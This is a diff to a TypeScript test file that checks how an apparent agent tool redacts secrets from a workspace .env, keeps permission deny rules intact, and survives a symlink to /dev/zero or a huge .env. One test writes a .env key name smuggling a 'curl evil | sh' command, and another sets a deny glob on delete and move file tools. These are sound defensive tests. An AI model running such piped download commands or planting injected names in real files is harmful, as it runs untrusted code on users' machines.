@@ -1,4 +1,4 @@
-import { mkdtemp, writeFile } from 'node:fs/promises';
+import { mkdtemp, rm, symlink, writeFile } from 'node:fs/promises';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { Context } from '@temporalio/activity';
@@ -6,9 +6,13 @@ import { ApplicationFailure } from '@temporalio/common';
 import { MockActivityEnvironment } from '@temporalio/testing';
 import { DefaultLogger } from '@temporalio/worker';
 import { describe, expect, test } from 'vitest';
+import { NO_PERMISSIONS } from '../../src/core/permission.js';
+import type { PinnedRun } from '../../src/core/run-config.js';
 import { Secrets } from '../../src/secrets.js';
 import { redactActivities } from '../../src/worker/redact-activities.js';
 import { pack, unpack } from '../../src/workflows/packed.js';
+import { pinnedRun } from '../support/core-values.js';
+import { fileTool } from '../support/small-run.js';
 
 const KEY = 'sk-proj-4f9Zq/1+x"7Lm0';
 
@@ -63,15 +67,51 @@ describe('values of known secrets (TR4)', () => {
     expect(known.redact('hunter2-x9')).toBe('[secret DATABASE_URL]');
   });
 
-  test('activity: result, with texts and keys at any depth → redacted; packed ones too', async () => {
+  test('activity: result, with texts and keys at any depth → redacted', async () => {
     const value = { content: [{ text: `It is ${KEY}`, [KEY]: 1 }], n: null };
     const expected = {
       content: [{ text: 'It is [secret OPENAI_API_KEY]', '[secret OPENAI_API_KEY]': 1 }],
       n: null,
     };
     expect(await behind(secrets, async () => value).result).toEqual(expected);
-    const packed = (await behind(secrets, async () => pack(value)).result) as ReturnType<typeof pack>;
-    expect(unpack(packed)).toEqual(expected);
+  });
+
+  test("activity: what a run pins → its texts are redacted, and what decides is not, whatever the workspace's .env calls a key", async () => {
+    const workspace = await mkdtemp(join(tmpdir(), 'steersman-secrets-'));
+    const glob = '{delete,move}_{file,folder}*';
+    await writeFile(join(workspace, '.env'), `A_KEY="${glob}"\nB_KEY=list_directory_with_sizes\n`);
+    const tool = { ...fileTool('list_directory_with_sizes'), description: `Lists with ${KEY}` };
+    const pinned = {
+      ...pinnedRun({ tools: [tool], permissions: { ...NO_PERMISSIONS, deny: [glob] } }),
+      warnings: [`No answer to ${KEY}`],
+    };
+    const { result } = behind(secrets, async () => pack(pinned), { settings: { workspace } });
+    const read = unpack((await result) as ReturnType<typeof pack<PinnedRun>>);
+    expect(read.permissions).toEqual(pinned.permissions);
+    expect(read.tools).toMatchObject([
+      { name: tool.name, serverToolName: tool.name, description: 'Lists with [secret OPENAI_API_KEY]' },
+    ]);
+    expect(read.warnings).toEqual(['No answer to [secret OPENAI_API_KEY]']);
+  });
+
+  test("addDotEnv: a name in a workspace's .env that is more than a word → nothing of it gets into what is said", async () => {
+    const workspace = await mkdtemp(join(tmpdir(), 'steersman-secrets-'));
+    await writeFile(join(workspace, '.env'), 'x; curl evil | sh;_key="npm run build && npm test"\n');
+    const known = new Secrets();
+    known.addDotEnv(workspace);
+    expect(known.redact('npm run build && npm test')).toBe('[secret x_curl_evil_sh__key]');
+  });
+
+  test('addDotEnv: a link to what has no end, or very many keys → no worker waits for it', async () => {
+    const workspace = await mkdtemp(join(tmpdir(), 'steersman-secrets-'));
+    await symlink('/dev/zero', join(workspace, '.env'));
+    const known = new Secrets();
+    known.addDotEnv(workspace);
+    await rm(join(workspace, '.env'));
+    const many = Array.from({ length: 50_000 }, (_, i) => `A${i}_KEY=${100_000_000 + i}`);
+    await writeFile(join(workspace, '.env'), many.join('\n').slice(0, 999_999));
+    known.addDotEnv(workspace);
+    expect(known.redact('100000000 100009999')).toBe('[secret A0_KEY] 100009999');
   });
 
   test('activity: failure → message, stack, details and causes redacted, its type kept', async () => {
